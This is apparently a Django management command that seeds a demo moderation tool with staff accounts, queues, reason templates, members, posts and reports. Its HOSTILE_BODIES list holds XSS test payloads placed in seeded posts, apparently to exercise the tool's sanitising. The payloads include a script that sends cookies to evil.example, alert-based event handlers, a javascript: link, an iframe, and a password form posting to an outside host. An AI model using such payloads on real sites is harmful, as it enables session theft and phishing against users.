"""Seed a demo database: staff users per role, queues, members, items, reports, reasons.

Running it again does not duplicate anything: users and queues are updated in place,
and items are only created when there are none (or after --reset).
"""

import random
from datetime import timedelta

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.management.base import BaseCommand
from django.db import transaction
from django.utils import timezone

from steward.models import (
    Decision,
    IdempotencyRecord,
    Item,
    Member,
    Queue,
    ReasonTemplate,
    Report,
)
from steward.permissions import ROLES

QUEUES = [
    ("reported-posts", "Reported posts", 10),
    ("spam", "Spam", 5),
    ("new-accounts", "New accounts", 1),
]

REASON_TEMPLATES = [
    ("decision", "spam", "Spam or advertising", "Removed as spam.", ["remove"]),
    ("decision", "harassment", "Harassment", "Removed: targets another member.", ["remove"]),
    (
        "decision",
        "nsfw",
        "Adult content",
        "Removed: adult content outside allowed areas.",
        ["remove"],
    ),
    ("decision", "off-topic", "Off topic", "", ["remove", "ignore"]),
    (
        "decision",
        "no-violation",
        "No violation",
        "Reviewed, no rule broken.",
        ["approve", "ignore"],
    ),
    ("decision", "needs-senior", "Needs a senior moderator", "", ["escalate"]),
    ("account", "repeat-offender", "Repeated violations", "Suspended after repeated removals.", []),
    ("account", "compromised", "Account looks compromised", "Forced logout, reset sent.", []),
    ("account", "appeal-granted", "Appeal granted", "Reactivated after appeal.", []),
]

TOPICS = [
    "my sourdough starter",
    "the new release",
    "weekend hiking trip",
    "home network setup",
    "the city council vote",
    "learning Rust",
    "vintage synthesizers",
    "balcony tomatoes",
    "the football match",
    "remote work",
    "a used car purchase",
    "my cat's diet",
]

TITLES = [
    "Thoughts on {t}",
    "Question about {t}",
    "Anyone else tried {t}?",
    "Update on {t}",
    "Hot take: {t} is overrated",
    "Help needed with {t}",
    "Photos from {t}",
]

BODIES = [
    "<p>I have been thinking about <b>{t}</b> for a while. What do you all think?</p>",
    "<p>Quick question about {t}:</p><ul><li>Is it worth it?</li><li>Any tips?</li></ul>",
    '<p>Here is my write-up on {t}. <a href="https://example.com/post">Full post</a>.</p>',
    '<p>BUY CHEAP WATCHES NOW!!! best prices on {t} <a href="https://spam.example">click</a></p>',
    "<p>You are an idiot if you disagree about {t}. Everyone like you should leave.</p>",
    "<blockquote>Someone said {t} was fine.</blockquote><p>I disagree, strongly.</p>",
]

HOSTILE_BODIES = [
    "<p>Nice post!</p><script>fetch('https://evil.example/steal?c='+document.cookie)</script>",
    "<p>Look at this</p><img src=x onerror=\"alert('xss')\">",
    '<p><a href="javascript:alert(document.domain)">Click for a prize</a></p>',
    '<svg onload="alert(1)"><circle r="10"/></svg><p>Cute circle</p>',
    '<p>Tracking pixel ahead</p><img src="http://127.0.0.1:9/x.png" width="1" height="1">',
    '<iframe src="https://evil.example/"></iframe><p>Embedded thing</p>',
    '<p style="background:url(http://127.0.0.1:9/bg.png)">Styled</p><form action="https://evil.example"><input name=password></form>',
]

REASONS = [
    ("spam", "Looks like advertising"),
    ("harassment", "Insults another member"),
    ("nsfw", "Not safe for work image"),
    ("other", "Something feels off"),
    ("spam", ""),
    ("other", "Possible scam link"),
]


class Command(BaseCommand):
    help = "Create demo staff users, queues, members, items and reports."

    def add_arguments(self, parser):
        parser.add_argument("--items", type=int, default=300, help="Number of items (300).")
        parser.add_argument(
            "--password",
            help="One password for all three demo users (default: <role>-demo).",
        )
        parser.add_argument(
            "--reset", action="store_true", help="Delete existing demo content first."
        )
        parser.add_argument("--seed", type=int, default=42, help="Random seed (42).")

    def handle(self, *args, **options):
        rng = random.Random(options["seed"])
        with transaction.atomic():
            if options["reset"]:
                self._reset()
            passwords = self._users(options["password"])
            queues = self._queues()
            self._reason_templates()
            if Item.objects.exists():
                self.stdout.write("Items already exist; not adding more (use --reset).")
            else:
                count = self._items(rng, queues, options["items"])
                self.stdout.write(f"Created {count} items.")
        self.stdout.write("Demo users (username / password):")
        for username, password in passwords.items():
            self.stdout.write(f"  {username} / {password}")

    def _reset(self):
        IdempotencyRecord.objects.all().delete()
        Decision.objects.all().delete()
        Report.objects.all().delete()
        Item.objects.all().delete()
        Member.objects.all().delete()

    def _users(self, shared_password):
        user_model = get_user_model()
        passwords = {}
        for role in ROLES:
            group, _ = Group.objects.get_or_create(name=role)
            user, _ = user_model.objects.get_or_create(username=role)
            user.is_staff = True
            user.is_superuser = role == "admin"
            user.first_name = role.capitalize()
            user.last_name = "Demo"
            password = shared_password or f"{role}-demo"
            user.set_password(password)
            user.save()
            user.groups.add(group)
            passwords[role] = password
        return passwords

    def _queues(self):
        queues = []
        for slug, name, priority in QUEUES:
            queue, _ = Queue.objects.update_or_create(
                slug=slug, defaults={"name": name, "priority": priority}
            )
            queues.append(queue)
        return queues

    def _reason_templates(self):
        for position, (scope, code, label, text, actions) in enumerate(REASON_TEMPLATES):
            ReasonTemplate.objects.update_or_create(
                scope=scope,
                code=code,
                defaults={"label": label, "text": text, "actions": actions, "position": position},
            )

    def _items(self, rng, queues, count):
        now = timezone.now()
        members = Member.objects.bulk_create(
            [
                Member(
                    username=f"member{n:04d}",
                    email=f"member{n:04d}@example.com",
                    status=Member.Status.SUSPENDED if n % 17 == 0 else Member.Status.ACTIVE,
                    joined_at=now - timedelta(days=rng.randint(1, 900)),
                )
                for n in range(max(10, count // 5))
            ]
        )
        items = []
        for n in range(count):
            topic = rng.choice(TOPICS)
            if n % 25 == 3:
                body = HOSTILE_BODIES[(n // 25) % len(HOSTILE_BODIES)]
            else:
                body = rng.choice(BODIES).format(t=topic)
            created = now - timedelta(minutes=rng.randint(5, 60 * 24 * 7))
            state = Item.State.OPEN
            if n % 10 == 9:
                state = rng.choice([Item.State.APPROVED, Item.State.REMOVED, Item.State.IGNORED])
            items.append(
                Item(
                    queue=queues[n % len(queues)],
                    author=rng.choice(members),
                    title=rng.choice(TITLES).format(t=topic),
                    body_html=body,
                    state=state,
                    version=1 if state == Item.State.OPEN else 2,
                    created_at=created,
                    updated_at=created,
                )
            )
        # Make sure the very first items include every hostile sample, whatever --items is.
        for index, body in enumerate(HOSTILE_BODIES[: len(items)]):
            items[index].body_html = body
            items[index].title = f"Hostile sample {index + 1}"
            items[index].state = Item.State.OPEN
            items[index].version = 1
        items = Item.objects.bulk_create(items)
        reports = []
        for item in items:
            for _ in range(rng.randint(1, 3)):
                reason, note = rng.choice(REASONS)
                reports.append(
                    Report(
                        item=item,
                        reason=reason,
                        note=note,
                        created_at=item.created_at + timedelta(minutes=rng.randint(0, 120)),
                    )
                )
        Report.objects.bulk_create(reports)
        return len(items)
